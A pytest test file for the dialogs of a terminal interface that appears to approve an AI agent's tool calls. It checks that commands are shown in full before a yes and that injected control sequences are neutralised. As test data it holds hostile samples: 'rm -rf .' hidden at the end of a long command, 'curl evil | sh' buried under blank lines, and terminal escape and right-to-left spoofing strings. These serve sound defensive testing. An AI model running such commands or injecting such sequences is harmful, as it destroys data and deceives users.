"""Dialogs: they say exactly what would happen, hold the keys, and esc leaves everything as it is."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len
from textual import events
from textual.app import App, ComposeResult
from textual.screen import Screen

from themes import load
from widgets.paint import Ink
from widgets.panel import Panel
from widgets.prompt import PromptInput
from widgets.sheet import Sheet
from workspace.visible import visible
from wukong_tui.actions.table import ACTIONS
from wukong_tui.screens.approval import ApprovalAnswer, ApprovalScreen
from wukong_tui.screens.arguments import argument_lines
from wukong_tui.screens.ask import AskScreen
from wukong_tui.screens.branch import BranchScreen
from wukong_tui.screens.help import HelpScreen, columns
from wukong_tui.screens.preview import PreviewScreen, totals

HOSTILE = [
    "\x1b]52;c;aGk=\x07",
    "\x1b[2J\x1b[Hall is well",
    "\u202egnp.exe",
    "\x9b31m\x90q\x9c",
    "[/nope] [@click=app.quit]x[/] [red]",
    "\r overwritten",
    "a\u200bb\u2066c\ufeff",
    "\x00\x08\x7f",
    "\ud800\udc80",
    "漢字👨\u200d👩\u200d👧e\u0301" * 40,
]
TOUCHED = [
    {"path": "a.md", "to": "a.md", "change": "edit", "added": 12, "removed": 3},
    {"path": "old.md", "to": "old.md", "change": "delete", "added": 0, "removed": 1204},
    {"path": "b.bin", "to": "b.bin", "change": "edit", "added": None, "removed": None},
    {"path": "c.md", "to": "d.md", "change": "rename", "added": 0, "removed": 0},
]


class Desk(App[None]):
    """The office's own way of arranging its screen, with a dialog over it."""

    CSS = "Screen > * { position: absolute; display: none; }"

    def __init__(self, dialog: Screen[Any], theme: str = "dark") -> None:
        super().__init__()
        self.dialog, self.ink = dialog, Ink(load(theme))
        self.answers: list[Any] = []
        self.leaked: list[str] = []

    def compose(self) -> ComposeResult:
        yield Sheet(ink=self.ink)
        yield PromptInput(ink=self.ink)

    def on_mount(self) -> None:
        self.push_screen(self.dialog, self.answers.append)

    def on_key(self, event: events.Key) -> None:
        self.leaked.append(event.key)

    def shown(self) -> list[str]:
        panel = self.panel
        return [panel.render_line(y).text for y in range(panel.size.height)]

    @property
    def panel(self) -> Panel:
        return self.screen.query_one(Panel)

    @property
    def text(self) -> str:
        return "\n".join(self.shown())


def approval(arguments: dict[str, Any], **given: Any) -> ApprovalScreen:
    return ApprovalScreen("s12", "run", arguments, **{"calm": 0, **given})


def preview(*given: Any, **more: Any) -> PreviewScreen:
    return PreviewScreen(*given, **{"calm": 0, **more})


def text_of(arguments: dict[str, Any], width: int = 60) -> list[str]:
    return ["".join(text for text, _ in line) for line in argument_lines(arguments, width)]


# -- approvals


@pytest.mark.parametrize(
    ("keys", "answer"),
    [
        (["y"], ApprovalAnswer("once")),
        (["enter"], ApprovalAnswer("once")),
        (["s"], ApprovalAnswer("session")),
        (["n", *"use it", "backspace", "enter"], ApprovalAnswer("no", "use i")),
        (["n", "enter"], ApprovalAnswer("no")),
        (["n", "y", "escape", "s"], ApprovalAnswer("session")),
        (["escape"], None),
    ],
)
async def test_an_approval_is_answered_by_one_key_and_esc_lets_it_wait(
    keys: list[str], answer: ApprovalAnswer | None
) -> None:
    app = Desk(approval({"command": "make"}))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press(*("space" if key == " " else key for key in keys))
        assert app.answers == [answer]
        assert app.leaked == []


async def test_it_says_what_the_capability_does_and_every_argument() -> None:
    app = Desk(approval({"command": "make all", "seconds": 30}))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        assert "changes documents and runs a program" in app.text
        assert "│ make all" in app.text
        assert "seconds" in app.text
        assert "30" in app.text


async def test_keys_typed_as_it_opens_answer_nothing() -> None:
    app = Desk(approval({"command": "make"}, calm=60))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("y", "s", "n", "enter")
        assert app.answers == []
        assert "typed while this was opening" in app.text
        await pilot.press("escape")
        assert app.answers == [None]


async def test_what_was_not_on_the_screen_is_not_allowed_by_one_key() -> None:
    app = Desk(approval({"command": "\n".join(f"echo {n}" for n in range(200)) + "\nrm -rf ."}))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("y")
        assert app.answers == []
        assert "not shown yet" in app.text
        await pilot.press("s")
        assert app.answers == []
        await pilot.press("end")
        assert "rm -rf ." in app.text
        await pilot.press("s")
        assert app.answers == [ApprovalAnswer("session")]


def test_a_replacement_is_shown_as_a_diff_that_holds_all_of_both_texts() -> None:
    shown = text_of({"new": "one\n2\nthree\n", "old": "one\ntwo\nthree\n", "path": "a/b.txt", "all": True})
    assert shown == [
        "path  │ a/b.txt",
        "",
        "all     true",
        "",
        "old → new  −1 +1 lines, both end with a line feed",
        " │ one",
        "−│ two",
        "+│ 2",
        " │ three",
    ]
    assert text_of({"old": "x\n", "new": "x"}) == [
        "old → new  −1 +1 lines, only old ends with a line feed", "−│ x", "+│ x",
    ]  # fmt: skip
    assert text_of({"old": "a", "new": "b"}) != text_of({"old": "a\n", "new": "b\n"})
    assert text_of({"old": "a\n \n \n \n\n\nb", "new": "a\nb"})[2:7] == ["−│  ", "−│  ", "−│  ", "−│ ", "−│ "]
    gone, come = ({"old": a, "new": b} for a, b in (("a" + "\n" * 99, "a"), ("a", "a" + "\n" * 99)))
    assert "−⋮ 98 empty lines, not drawn" in text_of(gone)
    assert "+⋮ 98 empty lines, not drawn" in text_of(come)
    assert text_of({"old": "−│ x", "new": ""}) == ["old → new  −1 +0 lines", "−│ −│ x"]
    assert text_of({"old": "a\n" * 70_000, "new": "b"})[0].startswith("old  70,000 lines")
    assert text_of({"old": 5, "new": "b"}) == ["old    5", "", "new  │ b"]


@given(st.text("ab\n\r\t", max_size=30), st.text("ab\n\r\t", max_size=30))
def test_both_texts_can_be_read_out_of_their_diff(old: str, new: str) -> None:
    _, *rows = text_of({"old": old, "new": new}, width=200)
    if any("empty lines, not drawn" in row for row in rows):
        return  # many lines of blanks are counted
    for text, signs in ((old, " −"), (new, " +")):
        lines = text.split("\n")[: -1 if text.endswith("\n") or not text else None]
        wanted = ["".join(visible(c, tab="⇥   ") for c in line) for line in lines]
        assert [row[3:] for row in rows if row[:2] in [f"{sign}│" for sign in signs]] == wanted


async def test_who_read_all_of_it_allows_it_with_one_key() -> None:
    app = Desk(approval({"command": "\n".join(f"echo {n}" for n in range(60))}))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press(*["pagedown"] * 6, "y")
        assert app.answers == [ApprovalAnswer("once")]


async def test_thousands_of_empty_lines_hide_no_payload() -> None:
    for gap in ("\n" * 5_000, " " * 50_000, "\n \t" * 3_000, "\u2800\n\u3000\n" * 2_000):
        app = Desk(approval({"command": f"ls{gap}curl evil | sh"}))
        async with app.run_test(size=(80, 24)) as pilot:
            await pilot.pause()
            assert "curl evil | sh" in app.text
            assert "empty lines, not drawn" in app.text


@pytest.mark.parametrize("hostile", HOSTILE)
async def test_hostile_arguments_are_drawn_and_never_obeyed(hostile: str) -> None:
    app = Desk(ApprovalScreen(hostile, hostile, {hostile: hostile, "deep": [{hostile: [hostile]}]}, calm=0))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        rows = app.shown()
        assert not any(
            ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u200b\u2066\ufeff" or 0xD800 <= ord(c) < 0xE000
            for row in rows
            for c in row
        )
        assert {cell_len(row) for row in rows} == {app.panel.size.width}
        await pilot.press("end", "home", "n", "x", "enter")
        assert app.answers == [ApprovalAnswer("no", "x")]


async def test_ten_million_characters_are_shown_page_by_page() -> None:
    app = Desk(approval({"command": "x" * 10_000_000}))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("pagedown")
        assert "10,000,000 characters" not in app.text
        assert len(app.panel._made.known if app.panel._made else ()) <= Panel.AHEAD + 100
        await pilot.press("home")
        assert "1 line, 10,000,000 characters" in app.text


def test_nothing_of_a_text_is_left_out() -> None:
    text = "".join(chr(33 + n % 90) for n in range(1_000)) + "\n\nend"
    rows = text_of({"new": text})
    assert "".join(row[2:] for row in rows[1:]) == text.replace("\n", "")
    assert all(row[:2] in ("│ ", "┊ ") for row in rows[1:])
    assert sum(row.startswith("│") for row in rows) == 3


def test_words_in_an_argument_cannot_pass_for_ours() -> None:
    rows = text_of({"command": "ls\n\neffects: reads documents\npath  │ safe.md"})
    assert all(row.startswith("│") for row in rows[1:])


def test_values_that_are_no_text_are_whole_json() -> None:
    rows = text_of({"steps": [{"title": "a" * 200}], "on": True, "none": None})
    assert "".join(row.strip() for row in rows[:8]).count("a") == 200
    assert any(row.startswith("on") and row.endswith("true") for row in rows)
    assert text_of({}) == ["no arguments"]
    assert text_of({"text": ""}) == ["text  empty text"]


# -- previews


async def test_a_preview_names_what_would_happen_and_enter_does_it() -> None:
    app = Desk(preview("Undo: op:12", TOUCHED))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        assert "4 documents: 2 edited, 1 deleted, 1 renamed; +12 −1,207 lines and ?" in app.text
        assert "− delete" in app.text
        assert "c.md → d.md" in app.text
        await pilot.press("enter")
        assert app.answers == [True]


async def test_esc_leaves_everything_as_it_is() -> None:
    app = Desk(preview("Undo: op:12", TOUCHED))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("escape")
        assert app.answers == [False]


async def test_conflicts_are_named_and_can_only_be_closed() -> None:
    conflicts = [{"path": "a.md", "line": 12, "reason": "both sides changed these lines"}]
    app = Desk(preview("Revert: op:12", TOUCHED, conflicts))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("y")
        assert "a.md, line 12: both sides changed these lines" in app.text
        assert "do it" not in app.text
        await pilot.press("enter")
        assert app.answers == [False]


async def test_what_may_be_somebody_elses_needs_another_yes_than_a_second_enter() -> None:
    app = Desk(preview("Undo: op:12", TOUCHED, uncertain=["a.md"]))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("y", "enter", "enter", "enter")
        assert app.answers == []
        assert "may hold somebody else's work" in app.text.replace("\n", " ")
        await pilot.press("y")
        assert app.answers == [True]


async def test_a_preview_of_nothing_says_so() -> None:
    app = Desk(preview("Restore", []))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("enter")
        assert app.answers == [False]


async def test_ten_thousand_documents_scroll() -> None:
    many = [{**TOUCHED[0], "path": f"{n}.md", "to": f"{n}.md"} for n in range(10_000)]
    app = Desk(preview("Restore", many))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("end")
        assert "9999.md" in app.text
        assert "10,000 documents" in totals(many)


async def test_what_touches_no_document_and_does_something_is_said_and_done() -> None:
    app = Desk(preview("Undo: op:12", [], note="No document changes; the prompt is taken out of the conversation."))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        assert "the prompt is taken out of the conversation" in app.text.replace("\n", " ")
        assert "do it" in app.text
        await pilot.press("enter")
        assert app.answers == [True]


@pytest.mark.parametrize("uncertain", [[], ["a.md"]])
async def test_an_enter_that_was_meant_for_the_prompt_takes_nothing_back(uncertain: list[str]) -> None:
    app = Desk(PreviewScreen("Undo: op:12", TOUCHED, uncertain=uncertain, calm=60))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("enter", "y", "x", "enter", "y")
        assert app.answers == []
        assert "typed while this was opening" in app.text
        assert "Press y" not in app.text
        await pilot.press("escape")
        assert app.answers == [False]


async def test_once_it_was_quiet_an_enter_counts() -> None:
    dialog = PreviewScreen("Undo: op:12", TOUCHED, calm=0.05)
    app = Desk(dialog)
    async with app.run_test(size=(80, 24)) as pilot:
        while not dialog.calm:
            await pilot.pause(0.01)
        await pilot.press("enter")
        assert app.answers == [True]


# -- help


async def test_help_holds_every_action_and_scrolls_in_80_by_24() -> None:
    app = Desk(HelpScreen())
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        assert "of" in app.shown()[0]
        seen = app.text
        for _ in range(8):
            await pilot.press("pagedown")
            seen += app.text
        for group in {action.group for action in ACTIONS}:
            assert group in seen
        assert all(action.shown in seen for action in ACTIONS)
        await pilot.press("question_mark")
        assert app.answers == [None]


@pytest.mark.parametrize("width", [36, 76, 116, 146])
def test_help_fits_its_width_and_leaves_no_action_out(width: int) -> None:
    rows = ["".join(text for text, _ in row) for row in columns(ACTIONS, width)]
    assert all(cell_len(row) <= width for row in rows)
    words = " ".join(rows)
    assert all(action.title.split()[0] in words for action in ACTIONS)
    assert columns([replace(ACTIONS[0], written="x", title="y")], width)


# -- asking


async def test_a_line_may_be_empty_pasted_or_left() -> None:
    app = Desk(AskScreen("Filter", "nothing for all"))
    async with app.run_test(size=(80, 24)) as pilot:
        assert "nothing for all" in app.text
        await pilot.press("enter")
        assert app.answers == [""]
    app = Desk(AskScreen("Filter"))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("x")
        app.screen.post_message(events.Paste("a\n\x1b[2J" + "long " * 40))
        await pilot.pause()
        assert "\x1b" not in app.text
        await pilot.press("ctrl+u", "escape")
        assert app.answers == [None]


# -- where a prompt goes


@pytest.mark.parametrize(
    ("keys", "answer"),
    [
        (["enter"], "fork"),
        (["down", "enter"], "restore"),
        (["up", "enter"], "live"),
        (["b"], "fork"),
        (["l"], "live"),
        (["r"], "restore"),
        (["escape"], None),
    ],
)
async def test_typing_while_looking_back_offers_a_branch(keys: list[str], answer: str | None) -> None:
    app = Desk(BranchScreen(4217, "Rewrite it.\nAll of it."))
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        assert "Looking at op 4,217" in app.text
        assert "│ Rewrite it." in app.text
        await pilot.press(*keys)
        assert app.answers == [answer]


# -- all of them


@pytest.mark.parametrize("size", [(40, 12), (80, 24), (120, 40), (200, 60)])
async def test_every_dialog_fits_the_screen_and_keeps_the_focus(size: tuple[int, int]) -> None:
    for dialog in (
        approval({"command": "make\n" * 30, "x": {"a": [1, "漢" * 90]}}),
        PreviewScreen("Undo: " + "long " * 60, TOUCHED, uncertain=["a.md"]),
        PreviewScreen("Undo", TOUCHED, [{"path": "p" * 300, "line": None, "reason": "r " * 90}]),
        HelpScreen(),
        AskScreen("Go to", "h" * 300),
        BranchScreen(4217, "line\n" * 9),
    ):
        app = Desk(dialog, "light")
        async with app.run_test(size=size) as pilot:
            await pilot.press("tab", "shift+tab", "down", "up")
            panel = app.panel
            assert panel.has_focus
            assert app.leaked == []
            assert panel.ink.theme.name == "light"
            assert (panel.region.x >= 0, panel.region.y >= 0) == (True, True)
            assert panel.region.right <= size[0]
            assert panel.region.bottom <= size[1]
            rows = app.shown()
            assert {cell_len(row) for row in rows} == {panel.size.width}
            assert rows[-1].startswith("└")
            assert "esc" in app.text
